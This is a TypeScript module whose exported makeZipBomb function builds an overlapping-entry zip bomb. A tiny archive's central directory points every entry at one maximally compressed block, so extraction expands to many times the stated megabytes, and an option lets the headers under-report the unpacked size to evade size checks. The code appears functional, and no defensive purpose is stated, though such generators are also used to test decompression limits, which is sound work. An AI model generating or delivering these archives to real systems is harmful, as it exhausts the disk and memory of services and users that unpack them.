import { crc32, deflateRawSync } from 'node:zlib';

interface BombOptions {
  /** Number of files in its directory; all of them refer to the same bytes. */
  readonly entries: number;
  /** Unpacked size of each. */
  readonly megabytes: number;
  /** Declared size of each; by default the real one. */
  readonly declaredBytes?: number;
}

/** Makes a zip file of a few kilobytes that unpacks to `entries` times `megabytes`. */
export function makeZipBomb({ entries, megabytes, declaredBytes }: BombOptions): Buffer {
  const content = Buffer.alloc(megabytes * 1024 ** 2);
  const packed = deflateRawSync(content, { level: 9 });
  const bytes = declaredBytes ?? content.length;
  const crc = crc32(content);
  const local = Buffer.concat([
    toHeader(0x04034b50, { packed, bytes, crc }),
    Buffer.from('0'),
    packed,
  ]);
  const directory = Array.from({ length: entries }, (_, i) => {
    const name = Buffer.from(String(i));
    return Buffer.concat([toEntry({ packed, bytes, crc }, name), name]);
  });
  const all = Buffer.concat(directory);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries, 8);
  end.writeUInt16LE(entries, 10);
  end.writeUInt32LE(all.length, 12);
  end.writeUInt32LE(local.length, 16);
  return Buffer.concat([local, all, end]);
}

interface PackedFile {
  readonly packed: Buffer;
  readonly bytes: number;
  readonly crc: number;
}

/** Returns a local file header, for a name of one character. */
function toHeader(signature: number, { packed, bytes, crc }: PackedFile): Buffer {
  const header = Buffer.alloc(30);
  header.writeUInt32LE(signature, 0);
  header.writeUInt16LE(20, 4);
  header.writeUInt16LE(8, 8);
  header.writeUInt32LE(crc, 14);
  header.writeUInt32LE(packed.length, 18);
  header.writeUInt32LE(bytes, 22);
  header.writeUInt16LE(1, 26);
  return header;
}

/** Returns an entry of the directory; its file is the first one. */
function toEntry({ packed, bytes, crc }: PackedFile, name: Buffer): Buffer {
  const entry = Buffer.alloc(46);
  entry.writeUInt32LE(0x02014b50, 0);
  entry.writeUInt16LE(20, 4);
  entry.writeUInt16LE(20, 6);
  entry.writeUInt16LE(8, 10);
  entry.writeUInt32LE(crc, 16);
  entry.writeUInt32LE(packed.length, 20);
  entry.writeUInt32LE(bytes, 24);
  entry.writeUInt16LE(name.length, 28);
  return entry;
}
